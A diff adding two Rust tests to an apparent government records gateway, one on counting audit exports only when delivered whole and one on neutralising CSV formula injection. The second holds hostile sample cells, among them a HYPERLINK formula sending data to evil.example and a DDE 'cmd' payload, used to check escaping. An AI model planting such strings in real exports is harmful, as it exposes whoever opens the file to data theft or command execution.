@@ -614,3 +614,144 @@ fn retention_below_six_months_is_refused() {
     let err = config.check().unwrap_err();
     assert!(err.contains("183"), "{err}");
 }
+
+/// An export counts as exported (retention may then prune what it holds)
+/// only once its last byte went out on the connection: a client that drops
+/// mid-stream leaves the mark where it was; one that takes it whole moves it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_export_dropped_mid_stream_is_not_counted_as_exported() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+    let gw = TestGateway::start_with(|c, _| {
+        let file = c.policies_dir.join("grants/renshe-pension.toml");
+        let text = std::fs::read_to_string(&file).unwrap();
+        std::fs::write(
+            &file,
+            text.replace("quota = \"600/min\"", "quota = \"100000/min\""),
+        )
+        .unwrap();
+    })
+    .await;
+    // Far more than the connection's buffers hold: the export is still
+    // being written when the client goes.
+    let ids = gw.sample_ids("gongan.hukou", 200);
+    let tok = gw.token("renshe", "batch-1", &["pension_clerk"]);
+    let body =
+        serde_json::json!({ "resident_ids": ids.iter().cycle().take(500).collect::<Vec<_>>() });
+    let headers = [
+        ("authorization".to_owned(), format!("Bearer {tok}")),
+        ("x-purpose".to_owned(), "pension_eligibility".to_owned()),
+        ("content-type".to_owned(), "application/json".to_owned()),
+    ];
+    for _ in 0..20 {
+        let r = gw
+            .client()
+            .request_with_body(
+                "POST",
+                "/v1/datasets/gongan.hukou/records:batch",
+                &headers,
+                bytes::Bytes::from(body.to_string()),
+            )
+            .await
+            .unwrap();
+        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
+    }
+    assert_eq!(gw.gw.audit_store.exported_through().unwrap(), 0);
+
+    let officer = gw.token("shujuju", "officer-1", &["privacy_officer"]);
+    let mut tls = gw.client().connect().await.unwrap();
+    tls.write_all(
+        format!("GET /v1/audit/export HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {officer}\r\n\r\n")
+            .as_bytes(),
+    )
+    .await
+    .unwrap();
+    let mut first = vec![0u8; 16 * 1024];
+    let mut got = 0;
+    while got < first.len() {
+        let n = tls.read(&mut first[got..]).await.unwrap();
+        assert!(n > 0, "the export ended early");
+        got += n;
+    }
+    assert!(String::from_utf8_lossy(&first).starts_with("HTTP/1.1 200"));
+    drop(tls);
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    assert_eq!(
+        gw.gw.audit_store.exported_through().unwrap(),
+        0,
+        "an export the client dropped mid-stream counts as exported"
+    );
+
+    // Taken whole, it counts.
+    let r = officer_get(&gw, "/v1/audit/export").await;
+    assert_eq!(r.status, StatusCode::OK);
+    let deadline = std::time::Instant::now() + Duration::from_secs(5);
+    while gw.gw.audit_store.exported_through().unwrap() < 10_000 {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "a whole export was not recorded"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+/// A caller-chosen string that a spreadsheet would run as a formula (a
+/// token's `sub` here) is written as text in every CSV an officer opens,
+/// and the export still verifies offline.
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
+    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = 2).await;
+    let id = gw.sample_ids("gongan.hukou", 1)[0].clone();
+    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
+    for sub in [evil, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] {
+        let tok = gw.token("minzheng", sub, &["dibao_reviewer"]);
+        let r = gw
+            .get(
+                &format!("{HUKOU}/{id}"),
+                Some(&tok),
+                Some("dibao_review"),
+                Some("MZ-2026-1"),
+            )
+            .await;
+        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
+    }
+    let report = officer_get(
+        &gw,
+        &format!("/v1/audit/residents/{id}/disclosures?format=csv"),
+    )
+    .await;
+    let export = officer_get(&gw, "/v1/audit/export?format=csv").await;
+    for (what, text) in [
+        ("disclosure report", &report.text),
+        ("export", &export.text),
+    ] {
+        let text = text.trim_start_matches('\u{feff}');
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        let mut seen = 0;
+        for row in reader.records() {
+            for cell in row.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{what}: a cell a spreadsheet would run: {cell}"
+                );
+                seen += usize::from(cell == format!("'{evil}"));
+            }
+        }
+        assert!(seen >= 1, "{what}: the subject is there, as text");
+    }
+
+    let dir = tempfile::tempdir().unwrap();
+    let key = officer_get(&gw, "/v1/audit/checkpoint-key").await;
+    let key_file = dir.path().join("key.pem");
+    std::fs::write(&key_file, &key.text).unwrap();
+    let file = dir.path().join("export.csv");
+    std::fs::write(&file, &export.text).unwrap();
+    let out = verify_export_file(&file, &key_file);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+}
